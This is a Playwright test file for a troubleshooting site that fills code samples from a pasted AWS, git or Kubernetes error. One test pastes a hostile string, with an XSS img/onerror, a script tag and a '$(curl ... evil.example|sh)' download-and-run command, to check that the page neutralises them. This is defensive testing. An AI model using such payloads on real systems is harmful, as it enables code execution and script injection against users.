// "Use my error" as a reader uses it: paste your own message on a guide (or in search) and copy
// samples that name your principal, action and resource; reset; hostile pastes stay text.
import AxeBuilder from '@axe-core/playwright';
import type { Locator, Page } from '@playwright/test';
import { guideUrl } from '../../src/routes.ts';
import { IAM_GUIDE, expect, readGuide, test } from './site.ts';

const iam = readGuide('aws/access-denied-exception');
const sampleOf = (title: string) => {
	const fix = iam.fixes.find((f) => f.title.startsWith(title))!;
	return fix.samples;
};
const identityPolicy = sampleOf('Read the message and add')[0]!;
const simulator = sampleOf('Simulate the request')[0]!;
const bucketPolicy = sampleOf('Allow the caller in the resource policy')[0]!;

// Another reader's error, from a service without a guide of its own: the general guide's.
const READER = {
	principal: 'arn:aws:iam::444455556666:user/report-bot',
	action: 'logs:CreateLogGroup',
	resource: 'arn:aws:logs:eu-west-1:444455556666:log-group:reports',
};
const READER_MESSAGE = `An error occurred (AccessDeniedException) when calling the CreateLogGroup operation: User: ${READER.principal} is not authorized to perform: ${READER.action} on resource: ${READER.resource} because no identity-based policy allows the ${READER.action} action`;
// And an S3 one: its bucket and object replace the S3 examples, the bucket policy's included.
const S3_READER = {
	principal: 'arn:aws:iam::444455556666:user/report-bot',
	action: 's3:PutObject',
	resource: 'arn:aws:s3:::amzn-s3-demo-bucket/reports/2026-11.csv',
};
const S3_MESSAGE = `An error occurred (AccessDeniedException) when calling the PutObject operation: User: ${S3_READER.principal} is not authorized to perform: ${S3_READER.action} on resource: ${S3_READER.resource} because no identity-based policy allows the ${S3_READER.action} action`;

/** A sample by its file name, or else by the first line of its code. */
const block = (page: Page, title: string | undefined, code: string) =>
	title
		? page.locator('figure.sample').filter({ has: page.locator('figcaption', { hasText: title }) })
		: page
				.locator('figure.sample')
				.filter({ has: page.locator('pre code', { hasText: code.split('\n')[0]! }) });
const codeOf = (figure: Locator) => figure.locator('pre code').innerText();
const field = (page: Page) => page.getByRole('textbox', { name: 'Use my error' });

test.use({ permissions: ['clipboard-read', 'clipboard-write'] });

test('pasting another S3 error rewrites the identity policy, the simulator command and the bucket policy; the copied policy is valid JSON with the reader values', async ({
	page,
}) => {
	await page.goto(IAM_GUIDE);
	await field(page).fill(S3_MESSAGE);
	await expect(page.getByRole('status').filter({ hasText: /^Filled \d+ places/ })).toBeVisible();

	const identity = await codeOf(block(page, identityPolicy.filename, identityPolicy.code));
	expect(identity).toContain(`"Action": "${S3_READER.action}"`);
	expect(identity).toContain(`"Resource": "${S3_READER.resource}"`);

	const command = await codeOf(block(page, undefined, simulator.code));
	expect(command).toContain(`--policy-source-arn ${S3_READER.principal} `);
	expect(command).toContain(`--action-names ${S3_READER.action} `);
	expect(command).toContain(`--resource-arns ${S3_READER.resource} `);

	const bucket = block(page, bucketPolicy.filename, bucketPolicy.code);
	await bucket.getByRole('button', { name: `Copy ${bucketPolicy.filename}` }).click();
	await expect
		.poll(() => page.evaluate(() => navigator.clipboard.readText()))
		.toContain('amzn-s3-demo-bucket');
	const copied = await page.evaluate(() => navigator.clipboard.readText());
	expect(copied).toBe(await codeOf(bucket));
	const statement = JSON.parse(copied).Statement[0];
	expect(statement.Principal.AWS).toBe(S3_READER.principal);
	expect(statement.Action).toBe(S3_READER.action);
	expect(statement.Resource).toBe('arn:aws:s3:::amzn-s3-demo-bucket/*');

	// Filled values are marked, and the summary names what was read.
	await expect(bucket.locator('.slot.filled').first()).toBeVisible();
	const values = page.locator('.fill-values');
	await expect(values).toContainText('report-bot');
	await expect(values).toContainText('amzn-s3-demo-bucket');
});

test('reset restores every example, and the copy buttons copy them again', async ({ page }) => {
	await page.goto(IAM_GUIDE);
	const figures = page.locator('figure.sample[data-slots]');
	const before = await figures.evaluateAll((all) => all.map((f) => f.textContent));
	await field(page).fill(READER_MESSAGE);
	await expect(page.locator('.slot.filled').first()).toBeVisible();
	expect(await figures.evaluateAll((all) => all.map((f) => f.textContent))).not.toEqual(before);

	await page.getByRole('button', { name: 'Show the examples again' }).click();
	await expect(page.locator('.slot.filled')).toHaveCount(0);
	expect(await figures.evaluateAll((all) => all.map((f) => f.textContent))).toEqual(before);
	await expect(field(page)).toBeFocused();
	const policy = block(page, identityPolicy.filename, identityPolicy.code);
	await policy.getByRole('button', { name: `Copy ${identityPolicy.filename}` }).click();
	await expect
		.poll(() => page.evaluate(() => navigator.clipboard.readText()))
		.toBe(identityPolicy.code);
});

test('the same through search: a pasted error opens its guide with the samples already filled', async ({
	page,
}) => {
	await page.goto('/');
	const search = page.getByRole('textbox', { name: 'Search' });
	await search.fill(READER_MESSAGE);
	await expect(
		page.getByRole('list', { name: 'Search results' }).getByRole('link').first()
	).toBeVisible();
	await search.press('Enter');
	await expect(page).toHaveURL(IAM_GUIDE);
	await expect(page.getByRole('status').filter({ hasText: /search/ })).toContainText('Filled');
	const command = await codeOf(block(page, undefined, simulator.code));
	expect(command).toContain(`--policy-source-arn ${READER.principal} `);
	// The values never travel in the URL.
	expect(page.url()).not.toContain('report-bot');
});

test('an error that belongs to another guide says so, and its link carries the values there', async ({
	page,
}) => {
	await page.goto(IAM_GUIDE);
	// The S3 form of the refusal (code AccessDenied) has a guide of its own.
	await field(page).fill(
		S3_MESSAGE.replace('(AccessDeniedException)', '(AccessDenied)').replace(
			S3_READER.resource,
			`"${S3_READER.resource}"`
		)
	);
	const elsewhere = page.locator('.fill-elsewhere');
	const s3 = readGuide('aws/s3-access-denied');
	await expect(elsewhere.getByRole('link', { name: s3.title })).toBeVisible();
	await elsewhere.getByRole('link', { name: s3.title }).click();
	await expect(page).toHaveURL(guideUrl('aws/s3-access-denied'));
	await expect(page.locator('.slot.filled').first()).toBeVisible();
	await expect(
		page.locator('pre code').filter({ hasText: 'amzn-s3-demo-bucket' }).first()
	).toBeVisible();
});

// Beyond AWS: a sample of the guide (by its first line), the reader's message, and what the
// sample must say once filled.
const BEYOND_AWS = [
	{
		guide: 'git/https-permission-denied',
		what: 'a refused git push fills the remote with the reader’s repository and account',
		sample: 'git remote set-url',
		message:
			"remote: Permission to acme/api.git denied to jdoe.\nfatal: unable to access 'https://github.com/acme/api.git/': The requested URL returned error: 403",
		shows: 'git remote set-url origin https://jdoe@github.com/acme/api.git',
	},
	{
		guide: 'kubernetes/image-pull-backoff',
		what: 'a refused image pull fills the Pod with the reader’s image',
		sample: 'apiVersion: v1\nkind: Pod',
		message:
			'Failed to pull image "ghcr.io/acme/web:2.3": rpc error: code = Unknown desc = failed to pull and unpack image "ghcr.io/acme/web:2.3": failed to resolve reference "ghcr.io/acme/web:2.3": unexpected status from HEAD request to https://ghcr.io/v2/acme/web/manifests/2.3: 401 Unauthorized',
		shows: 'image: ghcr.io/acme/web:2.3',
	},
];

for (const { guide, what, sample: start, message, shows } of BEYOND_AWS)
	test(`${what}, and copies it`, async ({ page }) => {
		await page.goto(guideUrl(guide));
		// Found before filling: its text changes.
		const at = await page
			.locator('figure.sample')
			.evaluateAll(
				(figures, first) =>
					figures.findIndex((figure) =>
						figure.querySelector('pre code')?.textContent?.startsWith(first)
					),
				start
			);
		expect(at, start).toBeGreaterThanOrEqual(0);
		const sample = page.locator('figure.sample').nth(at);
		await field(page).fill(message);
		await expect(sample.locator('.slot.filled').first()).toBeVisible();
		const shown = await codeOf(sample);
		expect(shown).toContain(shows);
		await sample.getByRole('button', { name: /^Copy/ }).click();
		await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(shown);
	});

test('hostile pastes change nothing but text: no markup, no script, no javascript: link', async ({
	page,
}) => {
	await page.goto(IAM_GUIDE);
	const hostile = `User: arn:aws:iam::444455556666:user/<img src=x onerror="window.pwned=1"> is not authorized to perform: javascript:alert on resource: arn:aws:s3:::bucket/$(curl${'${IFS}'}evil.example|sh) because no identity-based policy allows it <script>window.pwned=2</script>`;
	await field(page).fill(hostile);
	await expect(page.locator('.fill-status')).not.toBeEmpty();
	expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
	await expect(page.locator('pre code img, pre code script, .fill-values img')).toHaveCount(0);
	// Nothing that needs quoting reaches a command: the resource with `$(...)` is refused.
	expect(await page.locator('pre code').allInnerTexts()).not.toContainEqual(
		expect.stringContaining('$(curl')
	);
	await expect(page.locator('a[href^="javascript:"]')).toHaveCount(0);

	// A megabyte paste: read at its ends, answered, the page still responds.
	await field(page).fill(`${'x'.repeat(1_000_000)}\n${S3_MESSAGE}`);
	await expect(page.locator('.fill-status')).toContainText('Filled');
	await expect(page.locator('.fill-values')).toContainText('amzn-s3-demo-bucket');
});

test('without JavaScript the page is unchanged and the field is not shown', async ({ browser }) => {
	const context = await browser.newContext({ javaScriptEnabled: false });
	const page = await context.newPage();
	await page.goto(IAM_GUIDE);
	await expect(page.locator('fe-fill-samples')).toBeHidden();
	await expect(page.getByRole('textbox', { name: 'Use my error' })).toHaveCount(0);
	const policy = block(page, identityPolicy.filename, identityPolicy.code);
	expect(await codeOf(policy)).toBe(identityPolicy.code);
	await context.close();
});

test('from the keyboard: Tab reaches the field and the reset; axe finds nothing in either theme', async ({
	page,
}) => {
	for (const scheme of ['light', 'dark'] as const) {
		await page.emulateMedia({ colorScheme: scheme });
		await page.goto(IAM_GUIDE);
		await field(page).focus();
		await page.keyboard.insertText(S3_MESSAGE);
		await expect(page.locator('.slot.filled').first()).toBeVisible();
		await page.keyboard.press('Tab');
		await expect(page.getByRole('button', { name: 'Show the examples again' })).toBeFocused();
		const violations = (await new AxeBuilder({ page }).analyze()).violations.map(
			(v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`
		);
		expect(violations, scheme).toEqual([]);
	}
});
